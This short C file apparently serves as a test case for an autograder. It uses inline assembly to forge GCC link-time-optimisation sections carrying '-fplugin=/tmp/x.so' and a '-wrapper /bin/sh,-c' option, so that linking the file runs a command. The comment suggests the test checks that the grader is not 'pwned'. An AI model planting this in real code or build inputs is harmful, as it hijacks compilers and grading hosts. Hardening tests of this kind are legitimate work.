/* lab01; tests: io_eintr_partial; status: graded|compile_error; hasnt: pwned | sections of another compilation, with options for it */
/* SPDX-License-Identifier: MIT */
__asm__(".section .gnu.lto_.opts,\"e\",@progbits\n.string \"'-fplugin=/tmp/x.so' '-wrapper' '/bin/sh,-c,echo pwned'\"\n"
        ".section .gnu.lto_main.0,\"e\",@progbits\n.string \"x\"\n.globl __gnu_lto_slim\n.comm __gnu_lto_slim,1,1\n.text\n");
